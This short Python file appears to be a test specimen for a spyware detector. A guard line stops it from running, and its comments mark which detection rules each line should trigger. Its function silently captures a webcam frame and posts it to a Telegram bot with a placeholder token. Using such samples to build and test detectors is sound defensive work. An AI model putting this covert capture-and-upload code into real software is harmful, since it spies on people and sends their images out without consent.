raise SystemExit("specimen: not to be run")
import cv2
import requests

def tell():
    ok, frame = cv2.VideoCapture(0).read()  # match: camera-or-microphone
    cv2.imwrite("a.png", frame)
    requests.post("https://api.telegram.org/bot0000000000:specimen-specimen-specimen/sendPhoto", files={"photo": open("a.png", "rb")})  # match: secrets-sent  # match: telegram-bot
